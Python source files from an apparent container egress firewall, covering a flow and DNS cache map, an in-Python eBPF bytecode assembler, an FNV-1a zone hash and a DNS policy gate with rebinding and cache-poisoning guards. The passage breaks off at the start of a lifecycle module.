    def bypassed(self, cgroup_id):
        # deadline-aware, like the kernel's fw_bypass_active: an expired
        # entry never grants bypass even before GC removes it
        with self._lock:
            deadline = self._bypass.get(cgroup_id)
            if deadline is None:
                return False
            if deadline <= time.time():
                del self._bypass[cgroup_id]
                return False
            return True

    def bypass_entries(self):
        with self._lock:
            return dict(self._bypass)

    def cache_dns(self, ip, entry):
        with self._lock:
            self._dns[ip] = entry

    def lookup_dns(self, ip):
        with self._lock:
            return self._dns.get(ip)

    def dns_entries(self):
        with self._lock:
            return dict(self._dns)

    def expire_dns(self, now_unix=None):
        now = int(now_unix if now_unix is not None else time.time())
        with self._lock:
            stale = [ip for ip, e in self._dns.items() if e.expires_unix <= now]
            for ip in stale:
                del self._dns[ip]
            return len(stale)

    def sync_routes(self, table):
        with self._lock:
            self._routes = dict(table)

    def lookup_route(self, key):
        with self._lock:
            return self._routes.get(key)

    def routes(self):
        with self._lock:
            return dict(self._routes)

    def record_udp_flow(self, cookie, flow):
        with self._lock:
            self._udp[cookie] = flow
            self._udp.move_to_end(cookie)
            while len(self._udp) > UDP_FLOWS_MAX:  # LRU eviction
                self._udp.popitem(last=False)

    def lookup_udp_flow(self, cookie):
        with self._lock:
            return self._udp.get(cookie)

    def record_tcp_flow(self, cookie, flow):
        with self._lock:
            self._tcp[cookie] = flow
            self._tcp.move_to_end(cookie)
            while len(self._tcp) > UDP_FLOWS_MAX:
                self._tcp.popitem(last=False)

    def lookup_tcp_flow(self, cookie):
        with self._lock:
            return self._tcp.get(cookie)

    def emit_event(self, ev):
        with self._lock:
            if len(self._events) >= EVENTS_RING_MAX:
                self.events_dropped += 1
                return
            self._events.append(ev)

    def drain_events(self, max_events=256):
        with self._lock:
            out, self._events = self._events[:max_events], self._events[max_events:]
            return out

    def flush_all(self):
        with self._lock:
            self._containers.clear()
            self._bypass.clear()
            self._dns.clear()
            self._routes.clear()
            self._udp.clear()
            self._tcp.clear()
            self._events.clear()


def iter_expired_bypass(maps: FirewallMaps, now_unix: int | None = None) -> Iterator[int]:
    """Cgroups whose bypass dead-man deadline has passed (reference:
    CleanupStaleBypass ebpf/manager.go:367)."""
    now = int(now_unix if now_unix is not None else time.time())
    for cg, deadline in maps.bypass_entries().items():
        if deadline <= now:
            yield cg
