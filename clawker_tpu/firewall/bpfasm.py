"""eBPF instruction assembler: build kernel-loadable bytecode in Python.

The TPU-VM build environment has no clang (and no BPF-target compiler at
all), but program load needs only bytes: the bpf(2) PROG_LOAD command
takes an array of `struct bpf_insn` and runs it through the in-kernel
verifier.  This module is a small assembler for that instruction set --
labels, 32/64-bit ALU, byte-swap, memory access, map-fd relocation
(BPF_PSEUDO_MAP_FD ld_imm64) and helper calls -- so the nine firewall
programs (fwprogs.py) can be emitted directly from the same Python
process that manages the maps, and verified by the *real* kernel
verifier instead of a host-compiled twin.

Parity reference: the reference compiles
controlplane/firewall/ebpf/bpf/clawker.c with a pinned clang toolchain
(Dockerfile.controlplane) and embeds the object via bpf2go.  Re-designed
here: the programs are assembled at load time against live map fds, which
removes the ELF/relocation step entirely -- there is no .o artifact to
drift from the loader, and the emitted bytecode is content-hashed for the
audit trail (scripts/bpfgate.py).

Encoding reference: Documentation/bpf/standardization/instruction-set.rst
(public kernel docs).  Each insn is 8 bytes:
  opcode:8  dst_reg:4 src_reg:4  off:16  imm:32   (little-endian)
ld_imm64 is two units with the second unit's imm holding the high word.
"""

from __future__ import annotations

import struct
from dataclasses import dataclass, field

# registers
R0, R1, R2, R3, R4, R5, R6, R7, R8, R9, R10 = range(11)

# instruction classes
BPF_LD = 0x00
BPF_LDX = 0x01
BPF_ST = 0x02
BPF_STX = 0x03
BPF_ALU = 0x04
BPF_JMP = 0x05
BPF_JMP32 = 0x06
BPF_ALU64 = 0x07

# size modifiers
_SIZE = {"w": 0x00, "h": 0x08, "b": 0x10, "dw": 0x18}

# mode modifiers
BPF_IMM = 0x00
BPF_MEM = 0x60

# source
BPF_K = 0x00
BPF_X = 0x08

# alu ops
_ALU_OPS = {
    "add": 0x00, "sub": 0x10, "mul": 0x20, "div": 0x30, "or": 0x40,
    "and": 0x50, "lsh": 0x60, "rsh": 0x70, "neg": 0x80, "mod": 0x90,
    "xor": 0xA0, "mov": 0xB0, "arsh": 0xC0,
}
BPF_END = 0xD0
BPF_TO_LE = 0x00
BPF_TO_BE = 0x08

# jump ops
_JMP_OPS = {
    "ja": 0x00, "jeq": 0x10, "jgt": 0x20, "jge": 0x30, "jset": 0x40,
    "jne": 0x50, "jsgt": 0x60, "jsge": 0x70, "jlt": 0xA0, "jle": 0xB0,
    "jslt": 0xC0, "jsle": 0xD0,
}
BPF_CALL = 0x80
BPF_EXIT = 0x90

# ld_imm64 pseudo source registers
BPF_PSEUDO_MAP_FD = 1

# helper function ids (uapi/linux/bpf.h __BPF_FUNC_MAPPER)
FN_map_lookup_elem = 1
FN_map_update_elem = 2
FN_map_delete_elem = 3
FN_ktime_get_ns = 5
FN_get_socket_cookie = 46
FN_get_current_cgroup_id = 80
FN_ktime_get_boot_ns = 125
FN_ringbuf_reserve = 131
FN_ringbuf_submit = 132
FN_ringbuf_discard = 133


def _s32(v: int) -> int:
    """Clamp an immediate into the signed 32-bit range struct.pack wants."""
    v &= 0xFFFFFFFF
    return v - (1 << 32) if v >= (1 << 31) else v


@dataclass
class _Insn:
    opcode: int
    dst: int = 0
    src: int = 0
    off: int = 0
    imm: int = 0
    target: str | None = None  # symbolic jump target, resolved at assemble()

    def pack(self) -> bytes:
        return struct.pack(
            "<BBhi", self.opcode, (self.src << 4) | self.dst, self.off,
            _s32(self.imm),
        )


class AsmError(Exception):
    pass


@dataclass
class Asm:
    """One program under construction.  Emitter methods append
    instructions; jump targets are labels resolved by assemble()."""

    name: str = "prog"
    _insns: list[_Insn] = field(default_factory=list)
    _labels: dict[str, int] = field(default_factory=dict)

    # -- structure ----------------------------------------------------
    def label(self, name: str) -> None:
        if name in self._labels:
            raise AsmError(f"{self.name}: duplicate label {name}")
        self._labels[name] = len(self._insns)

    def __len__(self) -> int:
        return len(self._insns)

    # -- ALU ----------------------------------------------------------
    def _alu(self, cls: int, op: str, dst: int, *, src: int | None = None,
             imm: int = 0) -> None:
        code = cls | _ALU_OPS[op] | (BPF_X if src is not None else BPF_K)
        self._insns.append(_Insn(code, dst, src or 0, 0, imm if src is None else 0))

    def mov_imm(self, dst: int, imm: int) -> None:
        self._alu(BPF_ALU64, "mov", dst, imm=imm)

    def mov_reg(self, dst: int, src: int) -> None:
        self._alu(BPF_ALU64, "mov", dst, src=src)

    def mov32_imm(self, dst: int, imm: int) -> None:
        self._alu(BPF_ALU, "mov", dst, imm=imm)

    def alu64_imm(self, op: str, dst: int, imm: int) -> None:
        self._alu(BPF_ALU64, op, dst, imm=imm)

    def alu64_reg(self, op: str, dst: int, src: int) -> None:
        self._alu(BPF_ALU64, op, dst, src=src)

    def alu32_imm(self, op: str, dst: int, imm: int) -> None:
        self._alu(BPF_ALU, op, dst, imm=imm)

    def alu32_reg(self, op: str, dst: int, src: int) -> None:
        self._alu(BPF_ALU, op, dst, src=src)

    def endian_be(self, dst: int, bits: int) -> None:
        """Convert dst to big-endian (on LE hosts: byte swap low `bits`)."""
        self._insns.append(_Insn(BPF_ALU | BPF_END | BPF_TO_BE, dst, 0, 0, bits))

    # -- memory -------------------------------------------------------
    def ldx(self, size: str, dst: int, src: int, off: int) -> None:
        self._insns.append(_Insn(BPF_LDX | _SIZE[size] | BPF_MEM, dst, src, off))

    def stx(self, size: str, dst: int, off: int, src: int) -> None:
        self._insns.append(_Insn(BPF_STX | _SIZE[size] | BPF_MEM, dst, src, off))

    def st_imm(self, size: str, dst: int, off: int, imm: int) -> None:
        self._insns.append(_Insn(BPF_ST | _SIZE[size] | BPF_MEM, dst, 0, off, imm))

    def ld_map_fd(self, dst: int, fd: int) -> None:
        """ld_imm64 with the map-fd pseudo relocation: the kernel replaces
        the fd with the map pointer at load time."""
        self._insns.append(
            _Insn(BPF_LD | _SIZE["dw"] | BPF_IMM, dst, BPF_PSEUDO_MAP_FD, 0, fd))
        self._insns.append(_Insn(0, 0, 0, 0, 0))  # second half of the pair

    # -- control ------------------------------------------------------
    def jmp(self, target: str) -> None:
        self._insns.append(_Insn(BPF_JMP | _JMP_OPS["ja"], 0, 0, 0, 0, target))

    def j_imm(self, op: str, reg: int, imm: int, target: str) -> None:
        self._insns.append(
            _Insn(BPF_JMP | _JMP_OPS[op] | BPF_K, reg, 0, 0, imm, target))

    def j_reg(self, op: str, reg: int, src: int, target: str) -> None:
        self._insns.append(
            _Insn(BPF_JMP | _JMP_OPS[op] | BPF_X, reg, src, 0, 0, target))

    def call(self, helper: int) -> None:
        self._insns.append(_Insn(BPF_JMP | BPF_CALL, 0, 0, 0, helper))

    def exit_(self) -> None:
        self._insns.append(_Insn(BPF_JMP | BPF_EXIT))

    def ret_imm(self, imm: int) -> None:
        self.mov_imm(R0, imm)
        self.exit_()

    # -- assembly -----------------------------------------------------
    def assemble(self) -> bytes:
        out = bytearray()
        for idx, ins in enumerate(self._insns):
            if ins.target is not None:
                if ins.target not in self._labels:
                    raise AsmError(f"{self.name}: undefined label {ins.target}")
                ins = _Insn(ins.opcode, ins.dst, ins.src,
                            self._labels[ins.target] - idx - 1, ins.imm)
            out += ins.pack()
        return bytes(out)

    @property
    def insn_count(self) -> int:
        return len(self._insns)
