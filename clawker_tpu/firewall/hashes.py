"""Zone-name hashing shared by the DNS gate, route sync, and the kernel.

FNV-1a 64-bit over the lowercased zone apex (no trailing dot).  Chosen
because it is trivially implementable in eBPF (bounded loop over a fixed
buffer, no tables) and in Python; the C twin lives in
native/ebpf/fw_maps.h (fw_zone_hash) and tests pin known vectors so the
two can never drift.

Parity reference: the reference routes kernel decisions on a domain hash
written by its CoreDNS dnsbpf plugin (internal/dnsbpf/bpfmap.go:29-51);
the hash function itself is re-chosen here.
"""

from __future__ import annotations

FNV_OFFSET = 0xCBF29CE484222325
FNV_PRIME = 0x100000001B3
_MASK = (1 << 64) - 1


def zone_hash(zone: str) -> int:
    """FNV-1a 64 of the normalized zone name."""
    h = FNV_OFFSET
    for b in zone.strip().strip(".").lower().encode("ascii", "ignore"):
        h ^= b
        h = (h * FNV_PRIME) & _MASK
    return h
