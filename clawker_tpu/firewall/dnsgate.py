"""DNS policy gate: the name-resolution half of kernel egress enforcement.

The kernel rewrites every :53 flow from enrolled containers to this
server.  For a query in an allowed zone it forwards to the upstream
malware-blocking resolvers, writes each answered A record into the
``dns_cache`` map as {ip -> zone hash, ttl} -- the entry the kernel's
connect/sendmsg hooks later route on -- and relays the answer.  Docker-
internal zones forward to the embedded daemon resolver; everything else
gets NXDOMAIN without ever leaving the host.  Name-based kernel
enforcement is only possible because resolution and routing share this
one path (reference: cmd/coredns-clawker + internal/dnsbpf ServeDNS
dnsbpf.go:49 writing A records into the pinned cache; config semantics
from controlplane/firewall/coredns_config.go -- per-zone forwards,
Docker-internal zones, catch-all NXDOMAIN).

Implementation is a first-party minimal DNS codec + threaded UDP/TCP
servers (no CoreDNS, no third-party DNS lib): the gate only needs
question parsing, A-record extraction, and NXDOMAIN/SERVFAIL synthesis.

AAAA policy: allowed zones answer NOERROR/empty (the sandbox data plane
is v4-only and the kernel denies native v6 -- steering dual-stack clients
to A records); denied zones get NXDOMAIN like everything else.
"""

from __future__ import annotations

import socket
import socketserver
import struct
import threading
import time
from dataclasses import dataclass, field

from .. import consts, logsetup
from .hashes import zone_hash
from .maps import FirewallMaps
from .model import DnsEntry

log = logsetup.get("firewall.dnsgate")

QTYPE_A = 1
QTYPE_AAAA = 28
RCODE_NOERROR = 0
RCODE_NXDOMAIN = 3
RCODE_SERVFAIL = 2

TTL_MIN_S = 30       # floor so the kernel cache outlives immediate reuse
TTL_MAX_S = 3600
UPSTREAM_TIMEOUT_S = 2.5

# DNS-rebinding guard (dnsmasq --stop-dns-rebind / unbound
# private-address semantics): an EXTERNAL allowed zone answering with a
# local/reserved address would poison the kernel's ip->zone cache into
# allowing direct connects to loopback, the bridge, link-local metadata
# services (169.254.169.254), or RFC1918 space.  Answers carrying any
# such record are treated as hostile and refused outright -- legitimate
# public domains do not mix public and private records.  (TEST-NET
# ranges are deliberately NOT listed: they are reserved-but-unroutable,
# and the parity World uses them as its virtual internet.)
_REBIND_NETS: tuple[tuple[int, int], ...] = tuple(
    (int.from_bytes(socket.inet_aton(net), "big"),
     (0xFFFFFFFF << (32 - prefix)) & 0xFFFFFFFF)
    for net, prefix in (
        ("0.0.0.0", 8), ("10.0.0.0", 8), ("100.64.0.0", 10),
        ("127.0.0.0", 8), ("169.254.0.0", 16), ("172.16.0.0", 12),
        ("192.168.0.0", 16), ("198.18.0.0", 15), ("224.0.0.0", 3),
    )
)


def is_rebind_ip(ip: str) -> bool:
    try:
        n = int.from_bytes(socket.inet_aton(ip), "big")
    except OSError:
        return True  # unparseable rdata: never cache or relay
    return any((n & mask) == net for net, mask in _REBIND_NETS)


# --------------------------------------------------------------------------
# wire codec (only what the gate needs)
# --------------------------------------------------------------------------

class DnsWireError(Exception):
    pass


def _read_name(data: bytes, off: int, depth: int = 0) -> tuple[str, int]:
    """Decode a (possibly compressed) name; returns (name, next offset)."""
    if depth > 8:
        raise DnsWireError("compression loop")
    labels = []
    while True:
        if off >= len(data):
            raise DnsWireError("truncated name")
        n = data[off]
        if n == 0:
            return ".".join(labels), off + 1
        if n & 0xC0 == 0xC0:  # compression pointer
            if off + 1 >= len(data):
                raise DnsWireError("truncated pointer")
            ptr = ((n & 0x3F) << 8) | data[off + 1]
            name, _ = _read_name(data, ptr, depth + 1)
            labels.append(name)
            return ".".join(labels), off + 2
        off += 1
        labels.append(data[off:off + n].decode("ascii", "replace"))
        off += n


def _encode_name(name: str) -> bytes:
    out = b""
    for label in name.strip(".").split("."):
        raw = label.encode("ascii", "ignore")
        if not raw or len(raw) > 63:
            raise DnsWireError(f"bad label in {name!r}")
        out += bytes([len(raw)]) + raw
    return out + b"\x00"


@dataclass
class Question:
    qid: int
    qname: str
    qtype: int
    qclass: int
    flags: int
    raw_question: bytes  # name+type+class, verbatim (for synthesized replies)


def parse_query(data: bytes) -> Question:
    if len(data) < 12:
        raise DnsWireError("short packet")
    qid, flags, qd, _an, _ns, _ar = struct.unpack(">HHHHHH", data[:12])
    if qd < 1:
        raise DnsWireError("no question")
    qname, off = _read_name(data, 12)
    if off + 4 > len(data):
        raise DnsWireError("truncated question")
    qtype, qclass = struct.unpack(">HH", data[off:off + 4])
    return Question(qid, qname.lower().rstrip("."), qtype, qclass, flags,
                    data[12:off + 4])


def synthesize(q: Question, rcode: int) -> bytes:
    """Answerless response (NXDOMAIN / NOERROR-empty / SERVFAIL)."""
    flags = 0x8000 | 0x0400 | (q.flags & 0x0100) | rcode  # QR|AA|RD-echo
    hdr = struct.pack(">HHHHHH", q.qid, flags, 1, 0, 0, 0)
    return hdr + q.raw_question


def synthesize_a(q: Question, ip: str, ttl: int = 60) -> bytes:
    """Single-A-record answer (internal-zone resolution is answered
    directly from the engine's container inventory, never forwarded)."""
    flags = 0x8000 | 0x0400 | (q.flags & 0x0100) | RCODE_NOERROR
    hdr = struct.pack(">HHHHHH", q.qid, flags, 1, 1, 0, 0)
    # answer: pointer to qname at offset 12, A/IN, ttl, rdata
    answer = (
        struct.pack(">HHHIH", 0xC00C, QTYPE_A, 1, ttl, 4)
        + socket.inet_aton(ip)
    )
    return hdr + q.raw_question + answer


def parse_a_records(data: bytes) -> list[tuple[str, int]]:
    """(ip, ttl) for every A record in the answer section."""
    if len(data) < 12:
        return []
    _, _, qd, an, _, _ = struct.unpack(">HHHHHH", data[:12])
    off = 12
    try:
        for _ in range(qd):
            _, off = _read_name(data, off)
            off += 4
        out = []
        for _ in range(an):
            _, off = _read_name(data, off)
            if off + 10 > len(data):
                break
            rtype, _rclass, ttl, rdlen = struct.unpack(">HHIH", data[off:off + 10])
            off += 10
            rdata = data[off:off + rdlen]
            off += rdlen
            if rtype == QTYPE_A and rdlen == 4:
                out.append((socket.inet_ntoa(rdata), ttl))
        return out
    except DnsWireError:
        return []


# --------------------------------------------------------------------------
# zone policy
# --------------------------------------------------------------------------

@dataclass
class Zone:
    apex: str            # normalized, no wildcard marker
    wildcard: bool       # True: apex + any subdomain; False: exact only
    internal: bool = False  # forward to the Docker-embedded resolver
    deny: bool = False   # more-specific NXDOMAIN carve-out under an allow

    @property
    def hash(self) -> int:
        return zone_hash(self.apex)


@dataclass
class ZonePolicy:
    """Longest-apex-wins matcher over allowed + internal + deny zones.

    Wildcard/exact semantics are the reference's e2e contract
    (firewall_test.go:609/:653): ``*.example.com`` admits the apex and
    every subdomain; a bare ``example.com`` rule admits only itself.  An
    ``action: deny`` rule emits a more-specific NXDOMAIN zone that wins
    over a broader wildcard allow via the longest-apex ordering
    (firewall_test.go:653 DenySubdomainUnderWildcard)."""

    zones: list[Zone] = field(default_factory=list)

    @classmethod
    def from_rules(cls, rules, internal_zones: tuple[str, ...] = ("docker.internal",)) -> "ZonePolicy":
        zones: dict[tuple[str, bool, bool], Zone] = {}
        for rule in rules:
            dst = rule.dst.strip().lower().rstrip(".")
            if dst.startswith(".") and len(dst) > 1:
                dst = "*" + dst     # leading-dot wildcard form
            if not dst:
                continue
            wild = dst.startswith("*.")
            apex = dst[2:] if wild else dst
            deny = getattr(rule, "action", "allow") == "deny"
            if deny and (getattr(rule, "port", 0)
                         or getattr(rule, "proto", "") in ("ssh", "git")):
                # Port-scoped deny (gitguard's ssh/22 + git/9418 pins,
                # docs/git-policy.md): the kernel denies exactly that
                # port lane; the zone must keep RESOLVING so the host's
                # other lanes (the guarded https path) stay reachable.
                continue
            z = Zone(apex=apex, wildcard=wild, deny=deny)
            prev = zones.get((z.apex, z.wildcard, False))
            if prev is not None and prev.deny:
                continue            # deny sticks over a same-shape allow
            zones[(z.apex, z.wildcard, False)] = z
        for apex in internal_zones:
            z = Zone(apex=apex.strip(".").lower(), wildcard=True, internal=True)
            zones[(z.apex, z.wildcard, True)] = z
        return cls(sorted(zones.values(),
                          key=lambda z: (len(z.apex), not z.wildcard),
                          reverse=True))

    def match(self, qname: str) -> Zone | None:
        """Longest matching zone; exact beats wildcard at equal apex."""
        q = qname.strip(".").lower()
        for z in self.zones:
            if not z.wildcard:
                if q == z.apex:
                    return z
            elif q == z.apex or q.endswith("." + z.apex):
                return z
        return None


# --------------------------------------------------------------------------
# the gate server
# --------------------------------------------------------------------------

@dataclass
class GateStats:
    queries: int = 0
    allowed: int = 0
    internal: int = 0
    refused: int = 0
    upstream_errors: int = 0
    cached_ips: int = 0


class DnsGate:
    """UDP+TCP DNS server applying ZonePolicy and feeding dns_cache."""

    def __init__(
        self,
        policy: ZonePolicy,
        maps: FirewallMaps,
        *,
        upstreams: tuple[str, ...] = consts.UPSTREAM_DNS,
        internal_resolver: str | None = None,
        internal_lookup=None,   # Callable[[str], str | None]: qname -> IP
        host: str = "0.0.0.0",
        port: int = consts.DNS_PORT,
    ):
        """internal_lookup answers internal zones from the engine's
        container inventory (the gate runs host-resident, where Docker's
        embedded 127.0.0.11 resolver does not exist -- that address is
        only valid inside a container netns, reference coredns_config.go
        runs CoreDNS on the clawker network for exactly this reason).
        internal_resolver is the in-netns fallback for gates that DO run
        on the container network."""
        self._policy_lock = threading.Lock()
        self.policy = policy
        self.maps = maps
        self.upstreams = upstreams
        self.internal_resolver = internal_resolver
        self.internal_lookup = internal_lookup
        self.host, self.port = host, port
        self.bound_port = 0
        self.stats = GateStats()
        self._stats_lock = threading.Lock()
        self._udp_sock = None
        self._tcp: socketserver.ThreadingTCPServer | None = None
        self._threads: list[threading.Thread] = []
        self._stop_evt = threading.Event()
        self._pool = None  # upstream/internal worker pool (start() builds)

    def set_policy(self, policy: ZonePolicy) -> None:
        """Atomic zone swap on rule reload (no restart)."""
        with self._policy_lock:
            self.policy = policy

    # ----------------------------------------------------------- serving

    def _udp_loop(self) -> None:
        """Inline fast path + pooled slow path.

        The previous ThreadingUDPServer spawned a thread PER DATAGRAM
        (~100us before any work).  Now: parse + policy-match ONCE on the
        receive thread; queries answerable from pure memory (denied /
        unknown zones -- notably ALL deny-verdict attack traffic) reply
        inline at wire speed, while anything that may block (upstream
        forwards, internal lookups hitting the engine API) rides the
        pool so one slow resolver or daemon can never stall the deny
        path.  Per-packet failures are isolated: nothing may kill the
        sole receive thread."""
        sock = self._udp_sock
        while not self._stop_evt.is_set():
            try:
                data, addr = sock.recvfrom(8192)
            except socket.timeout:
                continue
            except OSError:
                return
            pool = self._pool
            try:
                q = parse_query(data)
            except DnsWireError:
                continue
            except Exception as e:  # noqa: BLE001 - receive thread survives
                log.error("dnsgate: parse failed: %s", e)
                continue
            try:
                zone = self._match(q)
                fast = zone is None or zone.deny
                if fast or pool is None:
                    self._answer_udp(sock, data, addr, (q, zone))
                else:
                    pool.submit(self._answer_udp, sock, data, addr, (q, zone))
            except RuntimeError:
                return  # pool torn down mid-drain: we are stopping
            except Exception as e:  # noqa: BLE001 - isolate per packet
                log.error("dnsgate: packet handling failed: %s", e)

    def _answer_udp(self, sock, data: bytes, addr, parsed) -> None:
        try:
            reply = self.serve_packet(data, _parsed=parsed)
            if reply:
                sock.sendto(reply, addr)
        except OSError:
            pass
        except Exception as e:  # noqa: BLE001 - per-request isolation,
            # like socketserver.handle_error: log and keep serving
            log.error("dnsgate: serve failed for %s: %s",
                      parsed[0].qname if parsed else "?", e)

    def start(self) -> None:
        gate = self

        class _Tcp(socketserver.BaseRequestHandler):
            def handle(self):
                try:
                    hdr = self.request.recv(2)
                    if len(hdr) < 2:
                        return
                    (length,) = struct.unpack(">H", hdr)
                    data = b""
                    while len(data) < length:
                        chunk = self.request.recv(length - len(data))
                        if not chunk:
                            return
                        data += chunk
                    reply = gate.serve_packet(data, tcp=True)
                    if reply:
                        self.request.sendall(struct.pack(">H", len(reply)) + reply)
                except OSError:
                    pass

        from concurrent.futures import ThreadPoolExecutor

        self._stop_evt.clear()
        # bind-order discipline: everything that can FAIL (UDP bind on a
        # taken port, the TCP server on the UDP-chosen ephemeral) happens
        # before anything that must be torn down on failure
        udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        udp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        try:
            udp.bind((self.host, self.port))
            udp.settimeout(0.1)   # shutdown poll
            self.bound_port = udp.getsockname()[1]
            socketserver.ThreadingTCPServer.allow_reuse_address = True
            self._tcp = socketserver.ThreadingTCPServer(
                (self.host, self.bound_port), _Tcp)
        except OSError:
            udp.close()
            self.bound_port = 0
            raise
        self._udp_sock = udp
        self._pool = ThreadPoolExecutor(max_workers=8,
                                        thread_name_prefix="dnsgate-fwd")
        t = threading.Thread(target=self._udp_loop, name="dnsgate-udp",
                             daemon=True)
        t.start()
        self._threads.append(t)
        # tight poll: stop() should not stall a CP drain for the default
        # 0.5s serve_forever poll interval
        t2 = threading.Thread(
            target=self._tcp.serve_forever, kwargs={"poll_interval": 0.05},
            name="dnsgate-tcp", daemon=True)
        t2.start()
        self._threads.append(t2)
        log.info("dns gate listening on %s:%d", self.host, self.bound_port)

    def stop(self) -> None:
        self._stop_evt.set()
        if self._udp_sock is not None:
            try:
                self._udp_sock.close()
            except OSError:
                pass
            self._udp_sock = None
        if self._tcp is not None:
            self._tcp.shutdown()
            self._tcp.server_close()
            self._tcp = None
        if self._pool is not None:
            self._pool.shutdown(wait=False)
            self._pool = None
        for t in self._threads:
            t.join(2.0)
        self._threads.clear()

    # ------------------------------------------------------------ policy

    def _tick(self, field: str, n: int = 1) -> None:
        # += on an attribute is a non-atomic read-modify-write; counters
        # are bumped from the receive thread AND pool workers
        with self._stats_lock:
            setattr(self.stats, field, getattr(self.stats, field) + n)

    def _match(self, q: "Question") -> Zone | None:
        """Zone verdict for one parsed question (single-label fallback
        included)."""
        with self._policy_lock:
            zone = self.policy.match(q.qname)
        if zone is None and "." not in q.qname.strip(".") and (
                self.internal_lookup is not None
                or self.internal_resolver is not None):
            # Single-label names are sibling services on the sandbox
            # network, answered by the engine inventory the way Docker's
            # embedded DNS answers bare container names (reference:
            # firewall_test.go:568 resolves `otel-collector`).  Gates with
            # no internal plumbing keep the authoritative NXDOMAIN.
            zone = Zone(apex=q.qname.strip(".").lower(), wildcard=False,
                        internal=True)
        return zone

    def serve_packet(self, data: bytes, *, tcp: bool = False,
                     _parsed=None) -> bytes | None:
        """``_parsed``: (question, zone) when the receive loop already
        classified the packet -- parse + policy-match run once per
        datagram, not twice."""
        if _parsed is not None:
            q, zone = _parsed
        else:
            try:
                q = parse_query(data)
            except DnsWireError:
                return None
            zone = self._match(q)
        self._tick("queries")
        if zone is None or zone.deny:
            self._tick("refused")
            return synthesize(q, RCODE_NXDOMAIN)
        if q.qtype == QTYPE_AAAA:
            # v4-only data plane (internal zones included): empty answer
            # steers dual-stack clients to A records instead of letting
            # them dial native v6 that connect6 would deny
            self._tick("allowed")
            return synthesize(q, RCODE_NOERROR)
        if zone.internal:
            self._tick("internal")
            if self.internal_lookup is not None:
                if q.qtype != QTYPE_A:
                    # only A is answerable from the container inventory;
                    # NOERROR-empty for TXT/SRV/HTTPS etc. (never fabricate
                    # an A answer to a non-A question)
                    return synthesize(q, RCODE_NOERROR)
                ip = None
                try:
                    ip = self.internal_lookup(q.qname)
                except Exception as e:
                    log.warning("internal lookup failed for %s: %s", q.qname, e)
                if ip is None:
                    return synthesize(q, RCODE_NXDOMAIN)
                now = int(time.time())
                self.maps.cache_dns(
                    ip, DnsEntry(zone_hash=zone.hash, expires_unix=now + TTL_MIN_S))
                self._tick("cached_ips")
                return synthesize_a(q, ip, ttl=TTL_MIN_S)
            if self.internal_resolver is None:
                return synthesize(q, RCODE_SERVFAIL)
            reply = self._forward(data, (self.internal_resolver,), tcp=tcp)
            if reply is None:
                return synthesize(q, RCODE_SERVFAIL)
            self._cache_answers(reply, zone)
            return reply
        reply = self._forward(data, self.upstreams, tcp=tcp)
        if reply is None:
            self._tick("allowed")
            self._tick("upstream_errors")
            return synthesize(q, RCODE_SERVFAIL)
        records = parse_a_records(reply)
        rebound = [ip for ip, _ in records if is_rebind_ip(ip)]
        if rebound:
            # rebinding answer: refusing the whole response is the only
            # safe verdict -- relaying it would hand the client a local
            # address, caching it would open a kernel route to it
            log.warning("dns rebind refused: %s -> %s", q.qname, rebound)
            self._tick("refused")
            return synthesize(q, RCODE_NXDOMAIN)
        self._tick("allowed")
        self._cache_answers(records, zone)
        return reply

    def _cache_answers(self, records_or_reply, zone: Zone) -> None:
        records = (parse_a_records(records_or_reply)
                   if isinstance(records_or_reply, (bytes, bytearray))
                   else records_or_reply)
        now = int(time.time())
        for ip, ttl in records:
            if is_rebind_ip(ip) and not zone.internal:
                # defense in depth behind the refusal above; INTERNAL
                # zones legitimately resolve to private bridge addresses
                continue
            ttl = max(TTL_MIN_S, min(TTL_MAX_S, ttl))
            self.maps.cache_dns(ip, DnsEntry(zone_hash=zone.hash, expires_unix=now + ttl))
            self._tick("cached_ips")

    def _forward(self, data: bytes, resolvers: tuple[str, ...], *, tcp: bool) -> bytes | None:
        for resolver in resolvers:
            try:
                if tcp:
                    with socket.create_connection((resolver, 53), UPSTREAM_TIMEOUT_S) as s:
                        s.sendall(struct.pack(">H", len(data)) + data)
                        hdr = s.recv(2)
                        if len(hdr) < 2:
                            continue
                        (length,) = struct.unpack(">H", hdr)
                        buf = b""
                        while len(buf) < length:
                            chunk = s.recv(length - len(buf))
                            if not chunk:
                                break
                            buf += chunk
                        if len(buf) == length:
                            return buf
                else:
                    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                        s.settimeout(UPSTREAM_TIMEOUT_S)
                        # connect() so the kernel drops datagrams from any
                        # other source; the txn-id check below rejects
                        # same-source forgeries (dns_cache feeds a kernel
                        # enforcement map -- poisoning it is an egress hole)
                        s.connect((resolver, 53))
                        s.send(data)
                        deadline = time.monotonic() + UPSTREAM_TIMEOUT_S
                        while time.monotonic() < deadline:
                            reply = s.recv(4096)
                            if len(reply) >= 2 and reply[:2] == data[:2]:
                                return reply
                        continue
            except OSError:
                continue
        return None
