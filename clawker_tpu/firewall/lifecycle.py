"""Firewall bring-up hooks on the container run path + verb routing.

Pre-start: make the data plane exist (rules -> Envoy + DNS gate + kernel
routes) before the agent container can emit its first packet.
Post-start: enroll the started container's cgroup so enforcement begins
the moment the process tree exists.

``call_firewall`` is the single router every entry path uses (run-path
hooks here, ``clawker firewall`` verbs in the CLI):

- Real enforcement (pinned kernel programs present, or the CP explicitly
  enabled): the control-plane daemon must own the handler, because the
  DNS gate and bypass timers need a long-lived process -- the CP is
  auto-started and the verb rides its AdminService (the reference path:
  container_start.go:103/:297 -> AdminService).
- Monitor fallback (no kernel half, ``default_deny: false``): an
  in-process handler -- nothing is enforced, so process lifetime doesn't
  matter.
- Strict mode without the kernel half: FirewallUnavailable, loudly.
"""

from __future__ import annotations

import threading

from .. import logsetup
from ..config import Config
from ..engine.drivers import RuntimeDriver

log = logsetup.get("firewall.lifecycle")

_local_lock = threading.Lock()
_local_handlers: dict[str, object] = {}  # keyed by data dir (testenv isolation)


def _local(cfg: Config, driver: RuntimeDriver):
    """Per-process monitor-mode handler (shared by N runs in one CLI)."""
    from .runtime import build_handler

    key = str(cfg.data_dir)
    with _local_lock:
        if key not in _local_handlers:
            _local_handlers[key] = build_handler(
                cfg, driver.engine(),
                monitor_fallback=not cfg.settings.firewall.default_deny,
                # drivers whose containers have no real cgroups on this
                # host cannot take the in-process kernel lane
                inprocess_ok=getattr(driver, "real_cgroups", True),
            )
        return _local_handlers[key]


def call_firewall(cfg: Config, driver: RuntimeDriver, method: str, payload: dict) -> dict:
